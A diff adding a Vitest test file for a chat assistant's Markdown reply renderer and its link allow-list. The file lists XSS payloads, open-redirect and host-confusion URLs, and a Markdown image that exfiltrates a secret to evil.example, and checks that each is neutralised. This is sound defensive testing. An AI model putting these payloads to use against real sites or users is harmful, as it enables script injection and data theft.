@@ -1,0 +1,112 @@
+import { describe, expect, test } from 'vitest'
+import { allowedLink, parseReply, plainReply } from '../../../../src/assistant/conversation/reply-markdown.ts'
+
+const allowAll = (href: string) => href
+const inline = (line: string, allowed: (href: string) => string | undefined = allowAll) => {
+  const [block] = parseReply(line, allowed)
+  return block?.kind === 'paragraph' ? block.lines[0] : undefined
+}
+
+describe('a reply', () => {
+  test('has paragraphs, and lines within them', () => {
+    expect(parseReply('One\ntwo\n\nthree', allowAll)).toEqual([
+      { kind: 'paragraph', lines: [[{ kind: 'text', text: 'One' }], [{ kind: 'text', text: 'two' }]] },
+      { kind: 'paragraph', lines: [[{ kind: 'text', text: 'three' }]] }
+    ])
+  })
+
+  test('has lists, next to paragraphs without a blank line between them', () => {
+    expect(parseReply('Plans:\n- Starter\n- Professional\n1. One\n2) Two', allowAll).map(({ kind }) => kind)).toEqual([
+      'paragraph',
+      'bullets',
+      'numbers'
+    ])
+  })
+
+  test('has emphasis, code and links', () => {
+    expect(inline('**Bold**, *soft*, _soft_, `npm run dev` and [pricing](/pricing).')).toEqual([
+      { kind: 'strong', text: 'Bold' },
+      { kind: 'text', text: ', ' },
+      { kind: 'emphasis', text: 'soft' },
+      { kind: 'text', text: ', ' },
+      { kind: 'emphasis', text: 'soft' },
+      { kind: 'text', text: ', ' },
+      { kind: 'code', text: 'npm run dev' },
+      { kind: 'text', text: ' and ' },
+      { kind: 'link', text: 'pricing', href: '/pricing' },
+      { kind: 'text', text: '.' }
+    ])
+  })
+
+  test('has code blocks, in which nothing is read as Markdown, also when the last is not closed', () => {
+    expect(parseReply('Run:\n```sh\nnpm **i**\n```\nDone\n```\nopen', allowAll)).toEqual([
+      { kind: 'paragraph', lines: [[{ kind: 'text', text: 'Run:' }]] },
+      { kind: 'code', text: 'npm **i**' },
+      { kind: 'paragraph', lines: [[{ kind: 'text', text: 'Done' }]] },
+      { kind: 'code', text: 'open' }
+    ])
+  })
+
+  test('shows names with underscores and lone stars as they are', () => {
+    expect(inline('max_tokens_limit and 2 * 3 * 4')).toEqual([{ kind: 'text', text: 'max_tokens_limit and 2 * 3 * 4' }])
+  })
+
+  test.each([
+    '<img src=x onerror=alert(1)>',
+    '<script>alert(1)</script>',
+    '![spy](https://evil.example/?q=secret)',
+    '<a href="javascript:alert(1)">x</a>'
+  ])('shows %s as the text that it is', (hostile) => {
+    const pieces = inline(hostile, (href) => allowedLink(href, 'https://site.test/', []))
+    expect(pieces?.every(({ kind }) => kind === 'text')).toBe(true)
+  })
+
+  test('keeps the words of a link that is not allowed', () => {
+    expect(inline('[click](javascript:alert)', (href) => allowedLink(href, 'https://site.test/', []))).toEqual([
+      { kind: 'text', text: 'click' }
+    ])
+  })
+
+  test('is plain words for copying and for screen readers', () => {
+    expect(plainReply('**Three** plans:\n\n- [Starter](/pricing)\n- `Pro`')).toBe('Three plans:\n\n- Starter\n- Pro')
+  })
+})
+
+describe('links in replies', () => {
+  const origin = 'https://site.test'
+  test.each([
+    ['/pricing#faq', '/pricing#faq'],
+    ['https://site.test/faq', '/faq'],
+    ['https://site.test/faq?a=1#b', '/faq?a=1#b'],
+    ['/faq?a=1', '/faq?a=1'],
+    ['/faq/../pricing', '/pricing'],
+    ['https://site.test//evil.example/pay', undefined],
+    ['https://site.test/\\\\evil.example/pay', undefined],
+    ['/..//evil.example/pay', undefined],
+    ['/%2e%2e//evil.example/pay', undefined],
+    ['/\t/evil.example', undefined],
+    ['https://me@site.test/faq', undefined],
+    ['https://site.test@evil.example/', undefined],
+    ['pricing', undefined],
+    ['https://docs.test/page', 'https://docs.test/page'],
+    ['http://docs.test/page', undefined],
+    ['https://evil.test/', undefined],
+    ['//evil.test/', undefined],
+    ['/\\evil.test/', undefined],
+    ['javascript:alert(1)', undefined],
+    ['data:text/html,x', undefined],
+    ['mailto:a@b.test', undefined]
+  ])('%s leads to %s', (href, target) => {
+    expect(allowedLink(href, origin, ['docs.test'])).toBe(target)
+  })
+
+  test.each([
+    ['/pricing', '/shop/pricing'],
+    ['/shop/pricing', '/shop/pricing'],
+    ['//evil.example/pay', undefined],
+    ['/shop//evil.example', '/shop//evil.example'],
+    ['https://site.test/shop/faq#one', '/shop/faq#one']
+  ])('of a site in a folder: %s leads to %s', (href, target) => {
+    expect(allowedLink(href, 'https://site.test/shop/', [])).toBe(target)
+  })
+})
